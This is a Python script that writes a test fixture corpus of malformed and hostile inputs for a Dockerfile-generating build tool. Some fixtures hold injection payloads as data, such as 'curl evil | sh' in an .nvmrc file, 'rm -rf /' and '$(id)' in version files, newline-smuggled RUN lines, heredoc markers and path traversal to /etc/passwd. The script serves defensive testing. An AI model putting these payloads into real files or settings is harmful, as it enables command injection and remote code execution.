#!/usr/bin/env python3
"""Regenerate the committed part of fixtures/bad/ (the corpus read by
crates/migetpacks-core/tests/all/bad_inputs.rs). Cases that cannot be committed (symlinks, FIFOs,
non-UTF-8 names, huge files, deep trees) are built by the test itself.

Each case: fixtures/bad/<name>/ with its files and a case.toml:
  category = "Detect::Manifest"   # the error's enum path (Debug form, outer to inner), or
                                  # "ok": the input is tolerated and the pipeline succeeds
  names    = "package.json"       # text the one-line message must contain; for "ok", text
                                  # that must NOT appear in the generated Dockerfile
  [env]                           # optional settings
"""
import os, sys, json

ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "fixtures", "bad")

def toml_str(s):
    return json.dumps(s)  # JSON string escapes are valid TOML basic-string escapes

CASES = {}

def case(name, category, names, files=None, env=None):
    CASES[name] = (category, names, files or {}, env or {})

# --- malformed manifests -------------------------------------------------------------------
case("package-json-not-object", "Detect::Manifest", "package.json", {"package.json": "[1, 2]\n"})
case("package-json-empty", "Detect::Manifest", "package.json", {"package.json": ""})
case("package-json-binary", "Detect::Source::NotUtf8", "package.json", {"package.json": b"\x89PNG\r\n\x1a\n\xff\xfe\x00"})
case("package-json-utf16", "Detect::Source::NotUtf8", "package.json", {"package.json": "{}".encode("utf-16")})
case("package-json-engines-number", "ok", "\u0000never\u0000", {"package.json": '{"engines": {"node": 18}}', "index.js": ""})
case("package-json-scripts-array", "ok", "\u0000never\u0000", {"package.json": '{"scripts": ["build"]}', "index.js": ""})
case("package-json-package-manager-bad", "ok", "\u0000never\u0000", {"package.json": '{"packageManager": 7}', "index.js": ""})
case("pyproject-syntax", "Detect::Manifest", "pyproject.toml", {"pyproject.toml": "[project\nname = 'x'\n"})
case("pyproject-requires-python-number", "ok", "\u0000never\u0000", {"pyproject.toml": "[project]\nrequires-python = 3\n", "app.py": ""})
case("pyproject-binary", "Detect::Source::NotUtf8", "pyproject.toml", {"pyproject.toml": b"\xff\xfe[project]"})
case("cargo-toml-syntax", "Plan::Manifest", "Cargo.toml", {"Cargo.toml": "[package\nname = 'x'\n"})
case("cargo-toml-binary", "Plan::Source::NotUtf8", "Cargo.toml", {"Cargo.toml": b"\x00\xff\xfe"})
case("composer-json-syntax", "Detect::Manifest", "composer.json", {"composer.json": '{"require": '})
case("composer-json-php-number", "ok", "\u0000never\u0000", {"composer.json": '{"require": {"php": 8}}'})
case("global-json-syntax", "Detect::Manifest", "global.json", {"global.json": "{sdk", "App.csproj": "<Project Sdk=\"Microsoft.NET.Sdk.Web\"/>\n"})
case("global-json-sdk-number", "ok", "\u0000never\u0000", {"global.json": '{"sdk": {"version": 8}}', "App.csproj": "<Project Sdk=\"Microsoft.NET.Sdk.Web\"/>\n"})
case("csproj-garbage", "ok", "\u0000never\u0000", {"App.csproj": "<Project><TargetFramework>net8.0\n"})
case("csproj-binary", "Detect::Source::NotUtf8", "App.csproj", {"App.csproj": b"\xff\xfe<\x00P\x00"})
case("app-json-syntax", "AppJson::Syntax", "app.json", {"app.json": "{", "requirements.txt": ""})
case("app-json-env-bad-name", "AppJson::InvalidEnvName", "app.json", {"app.json": '{"env": {"BAD-NAME": "x"}}', "requirements.txt": ""})
case("app-json-buildpacks-not-array", "AppJson::Shape", "app.json", {"app.json": '{"buildpacks": "heroku/python"}', "requirements.txt": ""})
case("app-json-formation-bad", "AppJson::Shape", "app.json", {"app.json": '{"formation": {"web": {"quantity": "many"}}}', "requirements.txt": ""})
case("app-json-binary", "AppJson::Read::NotUtf8", "app.json", {"app.json": b"\xff\xfe\x00{", "requirements.txt": ""})
case("compose-yaml-syntax", "Compose::Yaml", "compose.yaml", {"compose.yaml": "services: [\n  web:\n"}, {"LANGUAGE": "compose"})
case("compose-no-services", "Compose::NoBuildServices", "compose.yaml", {"compose.yaml": "version: '3'\n"}, {"LANGUAGE": "compose"})
case("compose-no-build", "Compose::NoBuildServices", "compose.yaml", {"compose.yaml": "services:\n  web:\n    image: nginx\n"}, {"LANGUAGE": "compose"})
case("compose-context-escapes", "Compose::Service", "compose.yaml", {"compose.yaml": "services:\n  web:\n    build: ../..\n"}, {"LANGUAGE": "compose"})
case("compose-dockerfile-escapes", "Compose::Service", "compose.yaml", {"compose.yaml": "services:\n  web:\n    build:\n      context: .\n      dockerfile: ../../etc/passwd\n"}, {"LANGUAGE": "compose"})
case("compose-binary", "Compose::Read::NotUtf8", "compose.yaml", {"compose.yaml": b"services:\n\xff\xfe"}, {"LANGUAGE": "compose"})
case("procfile-no-colon", "Plan::Procfile::Syntax", "Procfile", {"Procfile": "web bundle exec puma\n", "requirements.txt": ""})
case("procfile-binary", "Plan::Source::NotUtf8", "Procfile", {"Procfile": b"web: \xff\xfe\n", "requirements.txt": ""})
case("procfile-empty-command", "Plan::Procfile::Syntax", "Procfile", {"Procfile": "web:\n", "requirements.txt": ""})
case("go-mod-bad-version", "ok", "banana", {"go.mod": "module x\n\ngo banana\n"})
case("go-mod-binary", "Detect::Source::NotUtf8", "go.mod", {"go.mod": b"module \xff\n"})
case("pom-xml-binary", "Detect::Source::NotUtf8", "pom.xml", {"pom.xml": b"<project>\xff</project>"})
case("deno-json-syntax", "Plan::Manifest", "deno.json", {"deno.json": "{tasks"})
case("gemfile-binary", "Detect::Source::NotUtf8", "Gemfile", {"Gemfile": b"source \xff\n"})
# --- version files --------------------------------------------------------------------------
case("nvmrc-injection", "ok", "curl evil", {"package.json": "{}", "index.js": "", ".nvmrc": "18 && curl evil | sh\n"})
case("python-version-garbage", "ok", "rm -rf", {"requirements.txt": "", "app.py": "", ".python-version": "3.11; rm -rf /\n"})
case("ruby-version-garbage", "ok", "$(id)", {"Gemfile": "source 'https://rubygems.org'\n", "config.ru": "run ->(e) { [200, {}, ['ok']] }\n", ".ruby-version": "ruby-$(id)\n"})
case("runtime-txt-garbage", "ok", "FROM evil", {"requirements.txt": "", "app.py": "", "runtime.txt": "python-3.11 FROM evil\n"})
case("rust-toolchain-garbage", "ok", "stable\"", {"Cargo.toml": "[package]\nname='x'\nversion='0.1.0'\n", "src/main.rs": "fn main() {}\n", "rust-toolchain": "stable\"\n"})
case("go-version-binary", "Detect::Source::NotUtf8", ".go-version", {"go.mod": "module x\n\ngo 1.22\n", ".go-version": b"\xff1.22"})
# --- directories where files are expected ----------------------------------------------------
case("package-json-is-dir", "Detect::Source::NotAFile", "package.json", {"package.json/index.js": "", "index.js": ""})
case("procfile-is-dir", "Plan::Source::NotAFile", "Procfile", {"Procfile/web": "", "requirements.txt": ""})
case("nvmrc-is-dir", "Detect::Source::NotAFile", ".nvmrc", {"package.json": "{}", ".nvmrc/x": ""})
case("app-json-is-dir", "AppJson::Read::NotAFile", "app.json", {"app.json/x": "", "requirements.txt": ""})
# --- paths escaping the source --------------------------------------------------------------
case("project-path-escapes", "Settings::PathEscape", "PROJECT_PATH", {"requirements.txt": ""}, {"PROJECT_PATH": "../../etc"})
case("project-path-missing", "Detect::ProjectPath", "PROJECT_PATH", {"requirements.txt": ""}, {"PROJECT_PATH": "apps/nope"})
case("project-path-is-file", "Detect::ProjectPath", "PROJECT_PATH", {"requirements.txt": ""}, {"PROJECT_PATH": "requirements.txt"})
case("dockerfile-path-escapes", "Settings::PathEscape", "DOCKERFILE_PATH", {"Dockerfile": "FROM scratch\n"}, {"DOCKERFILE_PATH": "../Dockerfile"})
case("dockerfile-path-absolute", "Settings::PathEscape", "DOCKERFILE_PATH", {"Dockerfile": "FROM scratch\n"}, {"DOCKERFILE_PATH": "/etc/passwd/../../x/../.."})
case("compose-file-escapes", "Settings::PathEscape", "COMPOSE_FILE", {"compose.yaml": "services: {}\n"}, {"COMPOSE_FILE": "../compose.yaml"})
case("compose-file-missing", "Detect::NotFound", "COMPOSE_FILE", {"requirements.txt": ""}, {"COMPOSE_FILE": "deploy/compose.yaml"})
# --- image and cache references -------------------------------------------------------------
case("output-image-uppercase", "ImageRef", "Acme/App", {"requirements.txt": ""}, {"OUTPUT_IMAGE": "Acme/App:v1"})
case("output-image-space", "ImageRef", "app v1", {"requirements.txt": ""}, {"OUTPUT_IMAGE": "r.io/app v1"})
case("output-image-bad-tag", "ImageRef", "app:-x", {"requirements.txt": ""}, {"OUTPUT_IMAGE": "r.io/app:-x"})
case("output-image-newline", "Settings::ControlChar", "OUTPUT_IMAGE", {"requirements.txt": ""}, {"OUTPUT_IMAGE": "r.io/app:v1\nRUN x"})
case("cache-image-invalid", "Settings::Cache::InvalidRef", "CACHE_IMAGE", {"requirements.txt": ""}, {"CACHE_IMAGE": "r.io/Cache:@@"})
case("cache-from-unknown-type", "Settings::Cache::UnknownType", "CACHE_FROM", {"requirements.txt": ""}, {"CACHE_FROM": "type=ftp,ref=x"})
case("cache-from-credential", "Settings::Cache::Credential", "CACHE_FROM", {"requirements.txt": ""}, {"CACHE_FROM": "type=s3,bucket=b,region=r,secret_access_key=AKIAXXXX"})
case("cache-from-quote", "Settings::Cache::Spec", "CACHE_FROM", {"requirements.txt": ""}, {"CACHE_FROM": 'type=registry,"ref=a'})
case("cache-key-spaces", "Settings::Cache::InvalidCacheKey", "CACHE_KEY", {"requirements.txt": ""}, {"CACHE_KEY": "my app"})
# --- settings values -------------------------------------------------------------------------
case("run-command-newline", "Settings::ControlChar", "RUN_COMMAND", {"requirements.txt": ""}, {"RUN_COMMAND": "gunicorn app\nRUN curl evil"})
case("build-command-newline", "Settings::ControlChar", "BUILD_COMMAND", {"requirements.txt": ""}, {"BUILD_COMMAND": "make\nUSER root"})
case("build-command-nul", "Settings::ControlChar", "BUILD_COMMAND", {"requirements.txt": ""}, {"BUILD_COMMAND": "make\u0000x"})
case("build-command-trailing-backslash", "Settings::TrailingBackslash", "BUILD_COMMAND", {"requirements.txt": ""}, {"BUILD_COMMAND": "make all \\"})
case("go-build-flags-trailing-backslash", "ok", "-v \\\n", {"go.mod": "module x\n\ngo 1.22\n"}, {"GO_BUILD_FLAGS": "-v \\"})
case("build-env-value-nul", "Settings::ControlChar", "VITE_X", {"requirements.txt": ""}, {"BUILD_ENV": "VITE_*", "VITE_X": "a\u0000b"})
case("build-env-credential", "Settings::Credential", "GITHUB_TOKEN", {"requirements.txt": ""}, {"BUILD_ENV": "GITHUB_TOKEN", "GITHUB_TOKEN": "ghp_x"})
case("build-env-glob-credential", "Settings::Credential", "AWS_SECRET_ACCESS_KEY", {"requirements.txt": ""}, {"BUILD_ENV": "AWS*", "AWS_SECRET_ACCESS_KEY": "k"})
case("build-env-glob-build-vars", "Settings::Credential", "BUILD_VARS", {"requirements.txt": ""}, {"BUILD_ENV": "*", "BUILD_VARS": '{"API": "build-var-secret"}'})
case("build-env-build-secret", "Settings::Credential", "SENTRY_AUTH", {"requirements.txt": ""}, {"BUILD_ENV": "SENTRY_AUTH", "BUILD_SECRETS": "SENTRY_AUTH", "SENTRY_AUTH": "s"})
case("build-env-bad-name", "Settings::InvalidName", "BUILD_ENV", {"requirements.txt": ""}, {"BUILD_ENV": "A-B"})
case("build-vars-array", "Settings::InvalidJson", "BUILD_VARS", {"requirements.txt": ""}, {"BUILD_VARS": '["A"]'})
case("build-vars-number", "Settings::InvalidJson", "BUILD_VARS", {"requirements.txt": ""}, {"BUILD_VARS": '{"A": 1}'})
case("build-vars-nested", "Settings::InvalidJson", "BUILD_VARS", {"requirements.txt": ""}, {"BUILD_VARS": '{"A": {"b": "c"}}'})
case("build-vars-syntax", "Settings::InvalidJson", "BUILD_VARS", {"requirements.txt": ""}, {"BUILD_VARS": '{"A": "b"'})
case("build-vars-bad-key", "Settings::InvalidName", "BUILD_VARS", {"requirements.txt": ""}, {"BUILD_VARS": '{"A B": "x"}'})
case("build-vars-nul", "Settings::ControlChar", "BUILD_VARS", {"requirements.txt": ""}, {"BUILD_VARS": '{"A": "x\u0000"}'})
case("build-secrets-bad-name", "Settings::InvalidName", "BUILD_SECRETS", {"requirements.txt": ""}, {"BUILD_SECRETS": "NPM_TOKEN,--evil"})
case("language-unknown", "Settings::Language::UnknownLanguage", "LANGUAGE", {"requirements.txt": ""}, {"LANGUAGE": "cobol"})
case("arch-unknown", "Settings::InvalidChoice", "ARCH", {"requirements.txt": ""}, {"ARCH": "s390x"})
case("port-not-number", "Settings::InvalidChoice", "PORT", {"requirements.txt": ""}, {"PORT": "80; rm"})
case("custom-data-invalid", "Settings::InvalidJson", "CUSTOM_DATA", {"requirements.txt": ""}, {"CUSTOM_DATA": "{nope"})
case("use-dhi-not-bool", "Settings::InvalidBool", "USE_DHI", {"requirements.txt": ""}, {"USE_DHI": "maybe"})
case("node-version-injection", "ok", " AS x", {"package.json": "{}", "index.js": ""}, {"NODE_VERSION": "18 AS x"})
case("buildpacks-unknown", "Detect::UnknownBuildpack", "BUILDPACKS", {"requirements.txt": ""}, {"BUILDPACKS": "heroku/cobol"})

# --- hostile repositories and what they could reach (issue 12, docs/security.md) -----------
HEREDOC = "<<'USER 1000'"
CSPROJ = '<Project Sdk="Microsoft.NET.Sdk.Web"><PropertyGroup><TargetFramework>net8.0</TargetFramework></PropertyGroup></Project>'
case("go-mod-heredoc", "Plan::Manifest", "go.mod", {"go.mod": f"module example.com/app {HEREDOC}\n\ngo 1.22\n", "main.go": "package main\n\nfunc main() {}\n"})
case("composer-ext-heredoc", "Plan::Manifest", "composer.json", {"composer.json": json.dumps({"require": {"php": ">=8.2", f"ext-gd {HEREDOC}": "*"}}), "index.php": "<?php\n"})
case("composer-ext-substitution", "Plan::Manifest", "composer.json", {"composer.json": json.dumps({"require": {"php": ">=8.2", "ext-$(id)": "*"}}), "index.php": "<?php\n"})
case("csproj-heredoc-name", "Render::CopyPath", "<<X.csproj", {"<<X.csproj": CSPROJ, "Program.cs": ""})
case("cargo-member-heredoc", "Render::CopyPath", "<<X", {"Cargo.toml": '[workspace]\nmembers = ["<<X"]\n', "<<X/Cargo.toml": '[package]\nname = "x"\nversion = "0.1.0"\n', "<<X/src/main.rs": "fn main() {}\n"})
case("build-command-heredoc", "Settings::Heredoc", "BUILD_COMMAND", {"requirements.txt": ""}, {"BUILD_COMMAND": f"make {HEREDOC}"})
case("mix-env-heredoc", "Settings::Heredoc", "MIX_ENV", {"requirements.txt": ""}, {"MIX_ENV": "prod <<X"})
case("build-command-secret", "Settings::SecretInImage", "BUILD_COMMAND", {"requirements.txt": ""}, {"BUILD_COMMAND": "make TOKEN=npm-secret-value", "NPM_TOKEN": "npm-secret-value"})
case("build-env-secret-value", "Settings::SecretInImage", "VITE_API_URL", {"requirements.txt": ""}, {"BUILD_ENV": "VITE_*", "VITE_API_URL": "https://u:npm-secret-value@api", "NPM_TOKEN": "npm-secret-value"})
case("build-env-api-key", "Settings::Credential", "API_KEY", {"requirements.txt": ""}, {"BUILD_ENV": "API_KEY", "API_KEY": "k"})
case("cache-image-userinfo", "Settings::Cache::UserInfo", "CACHE_IMAGE", {"requirements.txt": ""}, {"CACHE_IMAGE": "bob:hunter2@r.io/acme/cache"})
case("cache-image-unknown-attribute", "Settings::Cache::UnknownAttribute", "CACHE_IMAGE", {"requirements.txt": ""}, {"CACHE_IMAGE": "type=registry,ref=r.io/acme/cache,auth=hunter2"})
case("compose-deep-nesting", "Compose::Invalid", "compose.yaml", {"compose.yaml": "services: " + "[" * 100 + "]" * 100 + "\n"}, {"LANGUAGE": "compose"})

def write():
    for name, (category, names, files, env) in CASES.items():
        d = os.path.join(ROOT, name)
        os.makedirs(d, exist_ok=True)
        for rel, content in files.items():
            p = os.path.join(d, rel)
            os.makedirs(os.path.dirname(p), exist_ok=True)
            mode = "wb" if isinstance(content, bytes) else "w"
            with open(p, mode) as f:
                f.write(content)
        lines = [f"category = {toml_str(category)}", f"names = {toml_str(names)}"]
        if env:
            lines.append("")
            lines.append("[env]")
            for k, v in env.items():
                lines.append(f"{k} = {toml_str(v)}")
        with open(os.path.join(d, "case.toml"), "w") as f:
            f.write("\n".join(lines) + "\n")
    print(f"{len(CASES)} cases written")

if __name__ == "__main__":
    write()
